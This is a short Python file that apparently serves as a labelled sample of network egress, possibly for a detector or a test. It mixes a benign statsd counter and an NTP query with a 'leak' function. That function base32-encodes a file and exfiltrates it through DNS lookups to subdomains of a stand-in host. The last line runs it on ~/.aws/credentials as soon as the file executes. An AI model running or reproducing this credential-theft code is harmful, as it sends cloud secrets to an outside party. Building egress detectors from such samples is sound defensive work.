import base64
import os
import socket
import struct
import time

SERVER = ("203.0.113.9", 53)


def leak(path):
    with open(path, "rb") as f:
        blob = base64.b32encode(f.read()).decode()
    for i in range(0, len(blob), 40):
        name = blob[i:i + 40] + ".x.example.net"
        socket.gethostbyname(name)  # egress sensitive


def statsd(metric, value):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(f"{metric}:{value}|c".encode(), ("statsd.example.com", 8125))  # egress


def ntp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"\x1b" + 47 * b"\0", ("pool.ntp.org", 123))  # egress
        return struct.unpack("!12I", s.recvfrom(48)[0])[10] - 2208988800


leak(os.path.expanduser("~/.aws/credentials"))
